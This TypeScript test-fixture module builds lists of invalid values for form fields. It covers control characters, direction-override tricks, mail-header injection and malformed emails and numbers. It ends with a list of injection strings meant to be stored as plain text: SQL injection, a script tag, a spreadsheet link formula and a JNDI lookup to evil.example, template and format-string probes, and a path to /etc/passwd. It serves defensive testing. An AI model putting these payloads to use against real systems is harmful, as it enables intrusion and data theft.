/** A value to the letter: what JSON.stringify would not write. */
export class Raw {
  readonly text: string;
  constructor(text: string) {
    this.text = text;
  }
}

const long = 'a'.repeat(20_000);
/** Right for no field at all. */
const neverRight: [string, unknown][] = [
  ['NUL', 'a\0b'],
  ['an escape sequence', 'a\u001b[31mb'],
  ['a lone surrogate', 'a\ud800b'],
  ['an object', { $ne: null }],
  ['a list in a list', [['a']]],
  ['20,000 letters', long],
  ['2^53 + 1', new Raw('9007199254740993')],
  ['a number without end', new Raw('1e400')],
  ['a number in a list', [1]],
];
/** Wrong wherever one line is asked for. */
const wrongInOneLine: [string, unknown][] = [
  ['a header of a mail', 'a@example.com\r\nBcc: b@example.com'],
  ['a line separator', 'a\u2028b'],
  ['a turned direction', 'a\u202egpj.exe'],
  ['a mark from right to left', 'a\u200fb'],
  ['an Arabic letter mark', 'a\u061cb'],
  ['nothing that can be seen', '\u200b\u200d\u2060'],
];
const notAnAddress = [
  ...['a b@c.ng', 'a@b', '"a"@b.ng', 'a@b.ng,c@d.ng', 'Ada <a@b.ng>', '<a@b.ng>', 'a@b..ng', '@b.ng'],
  ...['a@[127.0.0.1]', 'a\u200b@b.ng', 'a\u00ad@b.ng', 'a＠b.ng', 'a@b.ng\u200b'],
].map((value) => [value, value] as [string, unknown]);
const notANumber = [
  ...[
    '１２３４５６７８９０',
    '١٢٣٤٥٦٧٨٩٠',
    '1e3',
    '-1',
    '0x10',
    '1,000',
    '1_000',
    'NaN',
    'Infinity',
    '1.2.3',
    '1'.repeat(400),
  ],
].map((value) => [value, value] as [string, unknown]);
const asNumber = (text: string): [string, unknown] => [`the number ${text}`, new Raw(text)];
const notMoney = ['-1', '1e21'].map(asNumber);
/** An order's amount and quantity are rounded instead: clients compute them in floating point. */
const tooFine = ['1e-7', '0.1234567890123456789'].map(asNumber);
const roundedFields = ['amount', 'quantity'];

const lines = [
  'message',
  'text',
  'words',
  'response',
  'description',
  'reference',
  'note',
  'reason',
  'strangerReason',
  'codesReason',
  'flagReason',
  'repeatReason',
  'deliveryCode',
  'memo',
];
const money = [
  'amount',
  'quantity',
  'minAmount',
  'maxAmount',
  'dailyCap',
  'buyingPrice',
  'sellingPrice',
  'tolerance',
  'referenceFrom',
  'approvalFrom',
];

/** What is wrong for a field of that name, each with what it is called. */
export function wrongFor(field: string): [string, unknown][] {
  const name = field.split('.').at(-1) ?? '';
  const secret = /password|token|code$/i.test(name);
  return [
    ...neverRight,
    ...(lines.includes(name) || secret ? [] : wrongInOneLine),
    ...(/email/i.test(name) ? notAnAddress : []),
    ...(money.includes(name) ? [...notANumber, ...notMoney] : []),
    ...(money.includes(name) && !roundedFields.includes(name) ? tooFine : []),
    ...(name === 'accountNumber' ? notANumber : []),
  ];
}

/** Text like any other, to us: what another program would take for more. */
export const onlyText = [
  "' or 1=1 --",
  '"><script>alert(1)</script>',
  '=HYPERLINK("https://evil.example")',
  `\${jndi:ldap://evil.example} {{7*7}} %s %n`,
  '../../../../etc/passwd',
  '__proto__',
  'Z̸̢̛͎a̴l̷g̶o̸ 😀 \u200d أدا',
];
